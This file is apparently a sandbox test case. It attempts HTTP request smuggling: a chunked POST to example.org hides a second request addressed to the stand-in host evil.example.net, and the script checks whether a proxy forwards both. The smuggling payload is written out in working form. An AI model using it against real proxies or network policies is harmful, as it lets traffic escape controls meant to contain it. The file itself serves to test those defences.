# /// attack
# guarantee = "network"
# summary = "Smuggles a request behind the trailers of a body in chunks."
# reference = "RFC 9112, 7.1.2"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy a second request came over one connection" }
# ///

from kit import exchange, has_proxy, head, judge, refused, target, url

inner = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
outer = head(f"POST {url('example.org', '/first')}", "Host: example.org", "Transfer-Encoding: chunked")
answer = exchange("example.org", outer + b"0\r\n", b"\r\n" + inner)
if has_proxy() and answer.count(b" 200 ") < 2:
    refused("one answer at most")
judge(answer)
